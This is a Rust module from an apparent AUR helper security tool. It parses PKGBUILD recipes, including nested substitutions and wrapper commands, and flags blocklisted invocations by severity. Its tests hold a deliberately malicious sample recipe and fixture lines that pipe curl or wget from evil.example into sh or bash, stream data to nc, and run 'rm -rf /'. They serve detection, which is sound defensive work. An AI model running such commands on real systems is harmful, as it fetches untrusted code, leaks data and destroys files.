/*
 * aurguard - Trust and resolution core for AUR package helpers.
 * Copyright (C) 2025  compiledkernel-idk and aurguard contributors
 *
 * This program is free software: you can redistribute it and/or modify
 * it under the terms of the GNU General Public License as published by
 * the Free Software Foundation, either version 3 of the License, or
 * (at your option) any later version.
 *
 * This program is distributed in the hope that it will be useful,
 * but WITHOUT ANY WARRANTY; without even the implied warranty of
 * MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
 * GNU General Public License for more details.
 *
 * You should have received a copy of the GNU General Public License
 * along with this program.  If not, see <https://www.gnu.org/licenses/>.
 */

//! PKGBUILD security scanning.
//!
//! Provides:
//! - A walker over every invocation in a parsed recipe, including those
//!   hidden inside command substitutions
//! - A data-driven blocklist of banned commands
//! - Scan reports with a blocking threshold
//!
//! Scanning only detects. Deciding whether to abort, prompt or continue is
//! left to the caller.

pub mod blocklist;

use serde::Serialize;
use tracing::{debug, trace};

use crate::aur::{
    parse_nested_fragment, Command, Connector, Position, Recipe, Redirect, Statement, Substitution,
    SubstitutionStyle, Word,
};
use crate::error::{AurguardError, AurguardResult, SecuritySeverity};

pub use blocklist::{ArgPredicate, BannedTerm, Blocklist, Invocation};

/// Commands that run their arguments as another command
const WRAPPERS: &[&str] = &["command", "builtin", "exec", "nohup", "time", "env"];

/// Scanner tuning
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ScanOptions {
    /// How many levels of nested command substitution to look into.
    /// `None` means no limit; `Some(0)` ignores substitutions entirely.
    pub substitution_depth: Option<usize>,
}

/// One blocklisted invocation
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Finding {
    /// Command name after wrappers were looked through
    pub command: String,
    /// Arguments of `command`, expansions left unexpanded
    pub args: Vec<String>,
    /// `command` and `args` as one line
    pub invocation: String,
    /// The full command line, wrappers included
    pub written: String,
    pub position: Position,
    /// Enclosing function, if any
    pub function: Option<String>,
    /// Command substitution nesting level; 0 for ordinary statements
    pub substitution_depth: usize,
    pub reason: String,
    pub category: String,
    pub severity: SecuritySeverity,
}

struct Scanner<'a> {
    blocklist: &'a Blocklist,
    options: &'a ScanOptions,
    findings: Vec<Finding>,
    /// Enclosing bodies and substitutions, bounded by `MAX_NESTING`
    nesting: usize,
}

impl<'a> Scanner<'a> {
    fn walk(&mut self, statements: &[Statement], function: Option<&str>, depth: usize) {
        for statement in statements {
            match statement {
                Statement::Assignment(a) => self.words(a.value.words(), function, depth),
                Statement::Function(f) => self.nested(&f.body, Some(&f.name), depth),
                Statement::Command(c) => self.command(c, function, depth),
                Statement::Compound(c) => {
                    self.words(&c.words, function, depth);
                    self.nested(&c.body, function, depth);
                    self.redirects(&c.redirects, function, depth);
                }
            }
        }
    }

    fn nested(&mut self, statements: &[Statement], function: Option<&str>, depth: usize) {
        self.nesting += 1;
        self.walk(statements, function, depth);
        self.nesting -= 1;
    }

    fn command(&mut self, command: &Command, function: Option<&str>, depth: usize) {
        for assignment in &command.env {
            self.words(assignment.value.words(), function, depth);
        }
        self.words(std::slice::from_ref(&command.name), function, depth);
        self.words(&command.args, function, depth);
        self.redirects(&command.redirects, function, depth);

        let invocation = resolve_invocation(command);
        if let Some(term) = self.blocklist.first_match(&invocation) {
            trace!(command = %invocation.name, reason = %term.reason, "banned term matched");
            let written = std::iter::once(&command.name)
                .chain(&command.args)
                .map(Word::text)
                .collect::<Vec<_>>()
                .join(" ");
            self.findings.push(Finding {
                command: invocation.name.clone(),
                args: invocation.args.clone(),
                invocation: invocation.display(),
                written,
                position: command.position,
                function: function.map(str::to_string),
                substitution_depth: depth,
                reason: term.reason.clone(),
                category: term.category.clone(),
                severity: term.severity,
            });
        }
    }

    fn redirects(&mut self, redirects: &[Redirect], function: Option<&str>, depth: usize) {
        for redirect in redirects {
            self.words(std::slice::from_ref(&redirect.target), function, depth);
            if let Some(heredoc) = &redirect.heredoc {
                self.substitutions(heredoc.substitutions.iter(), function, depth);
            }
        }
    }

    fn words(&mut self, words: &[Word], function: Option<&str>, depth: usize) {
        self.substitutions(words.iter().flat_map(Word::substitutions), function, depth);
    }

    fn substitutions<'s>(
        &mut self,
        substitutions: impl Iterator<Item = &'s Substitution>,
        function: Option<&str>,
        depth: usize,
    ) {
        if self
            .options
            .substitution_depth
            .is_some_and(|max| depth >= max)
        {
            return;
        }

        for substitution in substitutions {
            match parse_nested_fragment(&substitution.body, substitution.position, self.nesting + 1) {
                Ok(statements) => self.nested(&statements, function, depth + 1),
                Err(e) if e.is_nesting_limit() => {
                    debug!(position = %substitution.position, "substitution nested too deeply");
                    self.findings.push(too_deep(substitution, function, depth + 1));
                }
                // A span that is not valid shell on its own runs nothing we can see
                Err(e) => trace!(error = %e, "substitution body is not a command list"),
            }
        }
    }
}

/// Nesting past what the parser accepts hides whatever runs inside
fn too_deep(substitution: &Substitution, function: Option<&str>, depth: usize) -> Finding {
    let excerpt: String = substitution.body.chars().take(60).collect();
    Finding {
        command: "$(...)".to_string(),
        args: Vec::new(),
        invocation: excerpt.clone(),
        written: excerpt,
        position: substitution.position,
        function: function.map(str::to_string),
        substitution_depth: depth,
        reason: "Command substitution nested too deeply to inspect".to_string(),
        category: "obfuscation".to_string(),
        severity: SecuritySeverity::High,
    }
}

/// Strip wrapper commands (`env FOO=1 nohup curl ...` runs `curl`)
fn resolve_invocation(command: &Command) -> Invocation {
    let mut words: Vec<String> = std::iter::once(&command.name)
        .chain(command.args.iter())
        .map(|w| w.literal().unwrap_or_else(|| w.text()))
        .collect();

    loop {
        let Some(head) = words.first() else { break };
        if !WRAPPERS.contains(&head.as_str()) {
            break;
        }
        let skip = wrapper_prefix_len(head, &words[1..]);
        // `command -v curl` only looks the name up
        let lookup_only = head == "command"
            && words[1..=skip].iter().any(|a| a == "-v" || a == "-V");
        if lookup_only || skip + 1 >= words.len() {
            break;
        }
        words.drain(..=skip);
    }

    let mut words = words.into_iter();
    Invocation {
        name: words.next().unwrap_or_default(),
        args: words.collect(),
        piped: reads_command_output(command),
        position: command.position,
    }
}

/// `curl x | sh`, `sh <(curl x)`, `sh < <(curl x)` and `sh <<< "$(curl x)"`
/// all hand another command's output to the invocation
fn reads_command_output(command: &Command) -> bool {
    let process_input = |word: &Word| {
        word.substitutions()
            .any(|s| s.style == SubstitutionStyle::ProcessInput)
    };

    command.connector == Connector::Pipe
        || command.args.iter().any(process_input)
        || command.redirects.iter().any(|r| match r.op.as_str() {
            "<<<" => r.target.substitutions().next().is_some(),
            op => op.ends_with('<') && process_input(&r.target),
        })
}

/// Number of option words a wrapper consumes before the wrapped command
fn wrapper_prefix_len(wrapper: &str, args: &[String]) -> usize {
    let mut i = 0;
    while let Some(arg) = args.get(i) {
        if arg == "--" {
            return i + 1;
        }
        let is_flag = arg.starts_with('-') && arg.len() > 1;
        let is_env_assignment = wrapper == "env" && arg.contains('=') && !arg.starts_with('=');
        if !is_flag && !is_env_assignment {
            break;
        }
        // Flags that take a separate value
        let takes_value = matches!(
            (wrapper, arg.as_str()),
            ("env", "-u" | "--unset" | "-C" | "--chdir" | "-S" | "--split-string")
                | ("exec", "-a")
        );
        i += if takes_value { 2 } else { 1 };
    }
    i
}

/// Every blocklisted invocation in the recipe, in document order.
pub fn find_banned_terms(recipe: &Recipe, blocklist: &Blocklist) -> Vec<Finding> {
    find_banned_terms_with(recipe, blocklist, &ScanOptions::default())
}

pub fn find_banned_terms_with(
    recipe: &Recipe,
    blocklist: &Blocklist,
    options: &ScanOptions,
) -> Vec<Finding> {
    let mut scanner = Scanner {
        blocklist,
        options,
        findings: Vec::new(),
        nesting: 0,
    };
    scanner.walk(&recipe.statements, None, 0);

    let mut findings = scanner.findings;
    // Substitutions are visited before the command that contains them
    findings.sort_by_key(|f| f.position.offset);
    findings
}

/// Findings plus the summary a caller needs to decide what to do
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct ScanReport {
    pub findings: Vec<Finding>,
}

impl ScanReport {
    pub fn is_clean(&self) -> bool {
        self.findings.is_empty()
    }

    pub fn highest_severity(&self) -> Option<SecuritySeverity> {
        self.findings.iter().map(|f| f.severity).max()
    }

    pub fn count_at_least(&self, threshold: SecuritySeverity) -> usize {
        self.findings.iter().filter(|f| f.severity >= threshold).count()
    }

    /// Whether any finding reaches `threshold`
    pub fn blocks(&self, threshold: SecuritySeverity) -> bool {
        self.count_at_least(threshold) > 0
    }

    /// `Err(PkgbuildSecurityIssue)` when the report blocks at `threshold`
    pub fn check(&self, threshold: SecuritySeverity) -> AurguardResult<()> {
        if !self.blocks(threshold) {
            return Ok(());
        }
        Err(AurguardError::PkgbuildSecurityIssue {
            count: self.count_at_least(threshold),
            severity: self.highest_severity().unwrap_or(threshold),
        })
    }
}

/// Scan a recipe and summarise the result
pub fn scan_recipe(recipe: &Recipe, blocklist: &Blocklist, options: &ScanOptions) -> ScanReport {
    let _span = crate::span_scan!(blocklist.len()).entered();
    let findings = find_banned_terms_with(recipe, blocklist, options);
    debug!(findings = findings.len(), "scanned PKGBUILD");
    ScanReport { findings }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::aur::parse_recipe;
    use pretty_assertions::assert_eq;

    fn scan(src: &str) -> Vec<Finding> {
        let recipe = parse_recipe(src.as_bytes()).unwrap();
        find_banned_terms(&recipe, &Blocklist::standard())
    }

    fn commands(findings: &[Finding]) -> Vec<(String, usize)> {
        findings
            .iter()
            .map(|f| (f.command.clone(), f.position.line))
            .collect()
    }

    const MALICIOUS: &str = r#"pkgname=evil
pkgver=1.0.0
pkgrel=1
source=("$(curl -s https://evil.example/payload)")

prepare() {
  echo "preparing" # curl here is only a comment
  wget -q https://evil.example/x -O- | bash
}

build() {
  make
  local msg='sudo is only text here'
  nohup env LANG=C sudo cp x /usr/bin
}

package() {
  install -Dm755 foo "$pkgdir/usr/bin/foo"
  rm -rf /
}
"#;

    #[test]
    fn test_findings_in_document_order() {
        let findings = scan(MALICIOUS);
        assert_eq!(
            commands(&findings),
            vec![
                ("curl".to_string(), 4),
                ("wget".to_string(), 8),
                ("bash".to_string(), 8),
                ("sudo".to_string(), 14),
                ("rm".to_string(), 19),
            ]
        );

        assert_eq!(findings[0].function, None);
        assert_eq!(findings[0].substitution_depth, 1);
        assert_eq!(findings[2].severity, SecuritySeverity::Critical);
        assert_eq!(findings[2].function.as_deref(), Some("prepare"));
        assert_eq!(findings[3].invocation, "sudo cp x /usr/bin");
        assert_eq!(findings[3].args, vec!["cp", "x", "/usr/bin"]);
        assert_eq!(findings[3].written, "nohup env LANG=C sudo cp x /usr/bin");
        assert_eq!(findings[4].args, vec!["-rf", "/"]);
        assert_eq!(findings[4].category, "destructive");
    }

    #[test]
    fn test_clean_recipe_has_no_findings() {
        let findings = scan(
            r#"pkgname=test
pkgver=1.0.0
pkgrel=1
arch=('x86_64')

build() {
    ./configure --prefix=/usr
    make
}

package() {
    make DESTDIR="$pkgdir" install
    rm -rf "$pkgdir/usr/share/doc"
}
"#,
        );
        assert!(findings.is_empty(), "{:?}", findings);
    }

    #[test]
    fn test_scanning_is_deterministic() {
        let recipe = parse_recipe(MALICIOUS.as_bytes()).unwrap();
        let list = Blocklist::standard();
        assert_eq!(find_banned_terms(&recipe, &list), find_banned_terms(&recipe, &list));
    }

    #[test]
    fn test_nested_substitutions() {
        let src = "x=$(echo $(echo `curl -s u`))\n";
        let findings = scan(src);
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].substitution_depth, 3);

        let recipe = parse_recipe(src.as_bytes()).unwrap();
        let list = Blocklist::standard();
        for (limit, expected) in [(0, 0), (2, 0), (3, 1)] {
            let options = ScanOptions {
                substitution_depth: Some(limit),
            };
            assert_eq!(
                find_banned_terms_with(&recipe, &list, &options).len(),
                expected,
                "limit {}",
                limit
            );
        }
    }

    #[test]
    fn test_unparseable_substitution_contributes_nothing() {
        assert!(scan("x=$(fi)\n").is_empty());
        assert!(scan("y=$(done; curl x)\n").is_empty());
    }

    #[test]
    fn test_substitutions_everywhere() {
        let findings = scan(
            "depends=(a $(wget x))\nfor f in $(curl y); do :; done\ncat < $(nc z)\nCC=$(sudo id) make\n",
        );
        assert_eq!(
            findings.iter().map(|f| f.command.as_str()).collect::<Vec<_>>(),
            vec!["wget", "curl", "nc", "sudo"]
        );
    }

    #[test]
    fn test_expanding_heredoc_substitutions() {
        let findings = scan(
            "package() {\n  cat > \"$pkgdir/x\" <<EOF\n$(curl -s https://evil.example/p | sh)\nEOF\n}\n",
        );
        assert_eq!(
            commands(&findings),
            vec![("curl".to_string(), 3), ("sh".to_string(), 3)]
        );
        assert_eq!(findings[0].function.as_deref(), Some("package"));
        assert_eq!(findings[0].substitution_depth, 1);

        // Quoted delimiter: the body is only text
        assert!(scan("cat > x <<'EOF'\n$(curl -s u | sh)\nEOF\n").is_empty());
        assert!(scan("cat > x <<\\EOF\n`wget u`\nEOF\n").is_empty());
    }

    #[test]
    fn test_process_substitutions() {
        let findings = scan(
            "bash <(curl -s https://x)\ntar c . > >(nc host 9)\nsh < <(wget -qO- u)\npython <<< \"$(id)\"\n",
        );
        assert_eq!(
            findings.iter().map(|f| f.command.as_str()).collect::<Vec<_>>(),
            vec!["bash", "curl", "nc", "sh", "wget", "python"]
        );
        assert_eq!(findings[0].substitution_depth, 0);
        assert_eq!(findings[1].substitution_depth, 1);

        // Reading a file is not the same as reading a command
        assert!(scan("sh ./configure.sh < input\n").is_empty());
    }

    #[test]
    fn test_case_inside_substitution() {
        let findings = scan("x=$(case $y in a) sudo id;; esac)\n");
        assert_eq!(commands(&findings), vec![("sudo".to_string(), 1)]);
    }

    #[test]
    fn test_excessive_nesting_is_reported() {
        let deep = format!(
            "build() {{\n  {}curl x;{}\n}}\n",
            "{ x=$(".repeat(40),
            ") ; }".repeat(40)
        );
        let recipe = parse_recipe(deep.as_bytes()).unwrap();
        let findings = find_banned_terms(&recipe, &Blocklist::standard());
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].category, "obfuscation");
        assert_eq!(findings[0].severity, SecuritySeverity::High);
        assert_eq!(findings[0].function.as_deref(), Some("build"));
    }

    #[test]
    fn test_wrappers_are_looked_through() {
        let findings = scan(
            "command -p curl x\nexec -a name wget y\ntime nohup nc -l 1\nenv -u HOME -- eval x\nenv\ncommand -v sudo\n",
        );
        assert_eq!(
            findings.iter().map(|f| f.command.as_str()).collect::<Vec<_>>(),
            vec!["curl", "wget", "nc", "eval"]
        );
    }

    #[test]
    fn test_report() {
        let recipe = parse_recipe(MALICIOUS.as_bytes()).unwrap();
        let report = scan_recipe(&recipe, &Blocklist::standard(), &ScanOptions::default());
        assert!(!report.is_clean());
        assert_eq!(report.highest_severity(), Some(SecuritySeverity::Critical));
        assert!(report.blocks(SecuritySeverity::High));
        assert_eq!(report.count_at_least(SecuritySeverity::High), 3);

        let err = report.check(SecuritySeverity::High).unwrap_err();
        assert!(matches!(
            err,
            AurguardError::PkgbuildSecurityIssue {
                count: 3,
                severity: SecuritySeverity::Critical
            }
        ));

        let clean = ScanReport::default();
        assert!(clean.check(SecuritySeverity::Info).is_ok());
        assert_eq!(clean.highest_severity(), None);
    }

    #[test]
    fn test_custom_blocklist() {
        let mut list = Blocklist::new();
        list.push(
            BannedTerm::new("git", "Fetches sources outside the source array", "network", SecuritySeverity::Low)
                .unwrap()
                .with_args(ArgPredicate::arg_matches("^clone$").unwrap()),
        );
        let recipe = parse_recipe(b"prepare() { git clone https://x; git log; }\n").unwrap();
        let findings = find_banned_terms(&recipe, &list);
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].invocation, "git clone https://x");
    }
}
